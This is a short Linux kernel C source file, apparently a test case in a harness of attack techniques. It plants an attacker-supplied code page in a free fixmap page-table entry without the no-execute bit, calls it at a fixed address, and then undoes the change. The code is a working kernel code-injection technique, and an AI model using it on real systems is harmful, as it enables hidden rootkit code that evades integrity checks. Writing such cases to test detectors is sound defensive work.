// SPDX-License-Identifier: GPL-2.0-only
/* One of the table's free entries, as exopatch itself uses them, for a page of the attacker's. */
#include "remap.h"

#define FREE_INDEX  700
#define TABLE_START 0xffffffffff400000UL /* what entry 0 maps: level2_fixmap_pgt[506] */

ATTACK_SYMBOL(level1_fixmap_pgt);
static u64 *entry;
static u8 *code;

static int run(void)
{
	entry = (u64 *)level1_fixmap_pgt_at + FREE_INDEX;
	code = (u8 *)__get_free_page(GFP_KERNEL);
	if (!code || *entry)
		return -ENOMEM;
	memcpy(code, attack_works, sizeof(attack_works));
	WRITE_ONCE(*entry, virt_to_phys(code) | _PAGE_PRESENT | _PAGE_ACCESSED | _PAGE_GLOBAL);
	return 0;
}

static void undo(void)
{
	WRITE_ONCE(*entry, 0);
	attack_flush();
	free_page((unsigned long)code);
}

static int probe(void)
{
	return attack_call((void *)(TABLE_START + FREE_INDEX * PAGE_SIZE));
}

ATTACK(run, undo, probe, "a free entry of the fixmap's page table");
